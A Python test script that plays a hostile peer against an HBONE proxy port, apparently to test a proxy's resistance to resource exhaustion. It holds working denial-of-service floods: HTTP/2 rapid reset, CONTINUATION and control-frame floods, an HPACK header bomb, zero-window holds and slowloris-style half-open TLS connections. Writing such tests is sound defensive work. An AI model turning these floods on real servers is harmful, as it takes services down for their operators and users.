#!/usr/bin/env python3
"""A hostile peer of the HBONE port, for the namespace tests: floods that cost their sender little.

usage: attacker.py KIND HOST SECONDS[-MOST] CERTIFICATE KEY AUTHORITY

KIND is one of the functions below whose docstring begins with "flood:" or "hold:". A flood is sent as fast as it goes;
when the peer ends the connection the attacker comes back, until the time is over; the first connection may take up to
MOST seconds, however slow the machine is, to be ended. AUTHORITY is what its requests aim
at, host:port. Prints one JSON object: connections made, frames begun, bytes sent, CPU seconds that the attack took, and
how the connections ended, with the number of each.
"""
import json
import os
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter

PORT = 15008
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def number(value, prefix_bits, first=0):
    """An integer of HPACK."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def text(value):
    return number(len(value), 7) + value


def connect_head(authority):
    """A CONNECT, without the compression table."""
    return b"\x02" + text(b"CONNECT") + b"\x01" + text(authority)


def preface(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings)


class Over(Exception):
    """The peer ended the connection, or the time is over."""


class Wire:
    """One connection: sends without ever waiting for more than the socket, reads what comes so that nothing stalls."""

    def __init__(self, connection, deadline, reads=True):
        self.connection, self.deadline, self.reads, self.received = connection, deadline, reads, b""
        self.sent, self.frames = 0, 0
        connection.setblocking(False)

    def send(self, data, frames=1):
        view = memoryview(data)
        self.frames += frames
        while view:
            if time.monotonic() > self.deadline:
                raise Over("time")
            if self.reads:
                self.read()
            try:
                done = self.connection.send(view[:16384])
                self.sent += done
                view = view[done:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                select.select([self.connection] if self.reads else [], [self.connection], [], 0.05)
            except OSError as error:
                raise Over(self.ending(error))

    def read(self):
        try:
            while data := self.connection.recv(65536):
                self.received = (self.received + data)[-65536:]
            raise Over(self.ending(None))
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError as error:
            raise Over(self.ending(error))

    def hold(self):
        """Stays connected, reading, until the peer ends it or the time is over."""
        while time.monotonic() < self.deadline:
            select.select([self.connection], [], [], 0.1)
            self.read()
        raise Over("time")

    def ending(self, error):
        # What the kernel still has may be the GOAWAY.
        try:
            while data := self.connection.recv(65536):
                self.received += data
        except OSError:
            pass
        return "goaway" if b"\x00\x00\x08\x07\x00\x00\x00\x00\x00" in self.received else "closed"


# Floods behind TLS ----------------------------------------------------------------------------------------------------

def rapid_reset(wire, authority):
    """flood: a CONNECT and its reset, again and again"""
    wire.send(preface())
    head, stream = connect_head(authority), 1
    while True:
        batch = bytearray()
        for _ in range(200):
            batch += frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
            stream += 2
        wire.send(bytes(batch), 400)


def refused_connects(wire, authority):
    """flood: requests for an address that the proxy does not serve"""
    wire.send(preface())
    head, stream = connect_head(b"192.0.2.1:80"), 1
    while True:
        batch = bytearray()
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
            stream += 2
        wire.send(bytes(batch), 100)
        wire.read()


def many_refused(wire, authority):
    """flood: CONNECTs to a port on which nobody listens"""
    wire.send(preface())
    head, stream = connect_head(authority.rpartition(b":")[0] + b":7999"), 1
    while True:
        batch = bytearray()
        for _ in range(50):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
            stream += 2
        wire.send(bytes(batch), 50)
        time.sleep(0.01)


def continuation(wire, authority):
    """flood: a header block that never ends, in small pieces"""
    wire.send(preface() + frame(HEADERS, 0, 1, connect_head(authority)))
    piece = frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-a") + text(b"b"))
    while True:
        wire.send(piece * 500, 500)


def empty_continuation(wire, authority):
    """flood: the same with pieces of no byte"""
    wire.send(preface() + frame(HEADERS, 0, 1, connect_head(authority)))
    while True:
        wire.send(frame(CONTINUATION, 0, 1) * 1000, 1000)


def settings(wire, authority):
    """flood: empty SETTINGS, each of which wants an answer"""
    wire.send(preface())
    while True:
        wire.send(frame(SETTINGS, 0, 0) * 1000, 1000)


def ping(wire, authority):
    """flood: PING, each of which wants an answer"""
    wire.send(preface())
    while True:
        wire.send(frame(PING, 0, 0, b"01234567") * 1000, 1000)


def priority(wire, authority):
    """flood: PRIORITY of streams that do not exist"""
    wire.send(preface())
    stream = 1
    while True:
        batch = bytearray()
        for _ in range(500):
            batch += frame(PRIORITY, 0, stream, struct.pack("!IB", 0, 16))
            stream = (stream + 2) % 2000000001
        wire.send(bytes(batch), 500)


def window_update(wire, authority):
    """flood: a connection window that grows by one byte at a time"""
    wire.send(preface())
    while True:
        wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)) * 1000, 1000)


def empty_data(wire, authority):
    """flood: DATA frames without a byte"""
    wire.send(preface() + frame(HEADERS, END_HEADERS, 1, connect_head(authority)))
    while True:
        wire.send(frame(DATA, 0, 1) * 1000, 1000)


def header_bomb(wire, authority):
    """flood: one entry of the compression table, named thousands of times"""
    big = b"\x40" + text(b"x-big") + text(b"v" * 3900)
    wire.send(preface() + frame(HEADERS, END_HEADERS | END_STREAM, 1, connect_head(authority) + big))
    stream = 3
    while True:
        # 62 is the newest entry: 16 KiB of these are 64 MB of headers.
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, connect_head(authority) + b"\xbe" * 16000))
        stream += 2


def long_headers(wire, authority):
    """flood: header lists beyond 64 KiB"""
    wire.send(preface())
    block, stream = connect_head(authority) + b"\x00" + text(b"x-long") + text(b"v" * 70000), 1
    while True:
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        stream += 2


def unread_answers(wire, authority):
    """flood: requests beyond the number of streams, whose resets are never read; SETTINGS are never acknowledged"""
    wire.reads = False
    wire.send(preface())
    head, stream = connect_head(authority), 1
    while True:
        batch = bytearray()
        for _ in range(500):
            batch += frame(HEADERS, END_HEADERS, stream, head)
            stream += 2
        wire.send(bytes(batch), 500)


def garbage_inside(wire, authority):
    """flood: noise where HTTP/2 is expected"""
    while True:
        wire.send(os.urandom(16384))


def zero_window(wire, authority):
    """hold: 200 streams with an endless answer and no window for it"""
    wire.send(preface(struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, 1, 0))
    for stream in range(1, 400, 2):
        wire.send(frame(HEADERS, END_HEADERS, stream, connect_head(authority)) + frame(DATA, 0, stream, b"flood\n"))
    print("held", flush=True)
    wire.hold()


def crumbs(wire, authority):
    """flood: an endless answer, taken one byte at a time"""
    wire.send(preface(struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, 1, 0))
    for stream in range(1, 40, 2):
        wire.send(frame(HEADERS, END_HEADERS, stream, connect_head(authority)) + frame(DATA, 0, stream, b"flood\n"))
    updates = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", 1)) for stream in range(1, 40, 2))
    while True:
        wire.send(updates * 20, 400)


# Before TLS -----------------------------------------------------------------------------------------------------------

def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_open(host, deadline, ends, count=5000):
    """hold: thousands of connections, half of which say nothing and half nearly all of a ClientHello, a byte at a time"""
    hello, held, sent = client_hello(), [], 0
    while time.monotonic() < deadline and sent < count:
        try:
            connection = socket.create_connection((host, PORT), timeout=2)
            connection.setblocking(False)
            held.append(connection)
            if sent % 2:
                connection.send(hello[:-300])
        except OSError:
            ends["refused"] += 1
        sent += 1
    print("held", flush=True)
    offset = len(hello) - 300
    while time.monotonic() < deadline:
        for index in range(len(held) - 1, -1, -1):
            try:
                if index % 2 and offset < len(hello) - 1:
                    held[index].send(hello[offset:offset + 1])
                if not held[index].recv(4096):
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                ends["closed"] += 1
                held.pop(index).close()
        offset += 1
        time.sleep(0.1)
    ends["held to the end"] = len(held)
    return sent, 0


def garbage(host, deadline, ends):
    """flood: connections that speak noise"""
    count, sent = 0, 0
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, PORT), timeout=2) as connection:
                count += 1
                connection.settimeout(2)
                # Sometimes noise that looks like a record at first.
                noise = os.urandom(4096)
                connection.sendall(b"\x16\x03\x01\x10\x00" + noise if count % 2 else noise)
                sent += len(noise)
                while connection.recv(4096):
                    pass
            ends["eof"] += 1
        except OSError as error:
            ends[type(error).__name__] += 1
    return count, sent


def main(kind, host, seconds, certificate, key, authority):
    least, _, most = seconds.partition("-")
    begun, ends = time.monotonic(), Counter()
    deadline, last = begun + float(least), begun + float(most or least)
    attack = globals()[kind]
    if kind in ("half_open", "garbage"):
        count, sent = attack(host, deadline, ends)
        return {"connections": count, "frames": 0, "sent": sent, "ends": ends}
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    count, sent, frames = 0, 0, 0
    while time.monotonic() < deadline:
        try:
            plain = socket.create_connection((host, PORT), timeout=5)
            wire = Wire(context.wrap_socket(plain), deadline if ends else last)
        except OSError as error:
            ends[f"no TLS: {type(error).__name__}"] += 1
            time.sleep(0.05)
            continue
        count += 1
        if count == 1:
            print("attacking", flush=True)
        try:
            attack(wire, authority.encode())
        except Over as over:
            ends[str(over)] += 1
        sent += wire.sent
        frames += wire.frames
        wire.connection.close()
    return {"connections": count, "frames": frames, "sent": sent, "ends": ends}


if __name__ == "__main__":
    if len(sys.argv) != 7:
        sys.exit(__doc__)
    used = time.process_time()
    result = main(*sys.argv[1:])
    print(json.dumps({**result, "cpu": round(time.process_time() - used, 3)}), flush=True)
